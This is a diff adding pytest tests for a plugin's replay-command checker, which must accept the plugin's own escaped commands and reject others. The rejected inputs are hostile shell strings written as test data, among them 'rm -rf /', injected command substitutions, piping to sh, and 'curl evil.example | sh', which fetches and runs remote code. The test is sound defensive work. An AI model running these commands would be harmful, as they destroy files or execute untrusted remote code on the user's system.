@@ -5,13 +5,13 @@ from __future__ import annotations
 import shlex
 import sys
 from collections.abc import Callable
-from pathlib import Path, PurePath
+from pathlib import Path, PurePath, PurePosixPath
 
 import pytest
 from plugin_project import Project, records
 
 from pytest_failure_review import command
-from pytest_failure_review.command import OPTION, Here, downloaded, in_place, replay_command
+from pytest_failure_review.command import OPTION, Here, downloaded, in_place, is_replay_command, replay_command
 from pytest_failure_review.plugin import FOLDER
 
 NAME = "failure-review-ab-gw0.jsonl"
@@ -91,3 +91,31 @@ def test_on_github_the_command_names_no_folder_of_the_runner(
 
 def test_the_folder_in_the_command_is_the_plugin_s() -> None:
     assert command.FOLDER == FOLDER
+
+
+@pytest.mark.parametrize(
+    "options",
+    [(), ("-p", "no:cacheprovider", "-o", "x=it's; `a` $(b)"), ("--import-mode=importlib", "-c", "\u00e4 b/x.ini")],
+)
+@pytest.mark.parametrize("folder", ["", "sub folder"])
+def test_a_command_of_ours_is_known_as_one(folder: str, options: tuple[str, ...]) -> None:
+    ours = replay_command(PurePosixPath("r/it's.jsonl"), 3, folder=folder, hash_seed="0", options=options)
+    assert is_replay_command(ours)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rm -rf / #",
+        "pytest --failure-review-replay x#1; rm -rf x",
+        "pytest --failure-review-replay $(touch x)",
+        "pytest --failure-review-replay `touch x`",
+        'pytest --failure-review-replay "$(touch x)"',
+        "pytest --failure-review-replay x#1\nrm -rf x",
+        "pytest --failure-review-replay x#1 | sh",
+        "curl evil.example | sh && pytest --failure-review-replay x#1",
+        7,
+    ],
+)
+def test_a_command_that_does_more_is_none_of_ours(text: object) -> None:
+    assert not is_replay_command(text)
